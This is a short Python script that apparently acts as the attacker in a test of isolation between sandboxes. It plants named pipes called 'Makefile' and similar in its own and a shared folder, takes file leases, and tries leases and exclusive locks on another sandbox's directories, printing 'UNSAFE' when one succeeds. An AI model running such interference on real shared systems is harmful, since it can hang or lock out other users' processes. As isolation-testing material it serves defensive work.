import fcntl, os, signal, sys, time

signal.signal(signal.SIGIO, signal.SIG_IGN)
print("ATTACK-START", flush=True)
for folder in (os.getcwd(), "/sandboxes/shared"):
    for name in ("Makefile", "new", "a", "b"):
        os.mkfifo(f"{folder}/{name}", 0o666)
held = []
for name in ("x", "y", "z"):
    with open(name, "w") as file:
        file.write("leased")
    fd = os.open(name, os.O_RDWR)
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    held.append(fd)
for name in ("/sandboxes/lion/open", "/sandboxes/lion", "/sandboxes", "/sandboxes/shared"):
    try:
        fd = os.open(name, os.O_RDONLY)
    except FileNotFoundError:
        continue  # he was here first and has renamed it
    try:
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
        print("UNSAFE: a lease on what is not its own:", name)
    except OSError:
        pass
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    held.append(fd)
sys.stdout.flush()
time.sleep(60)
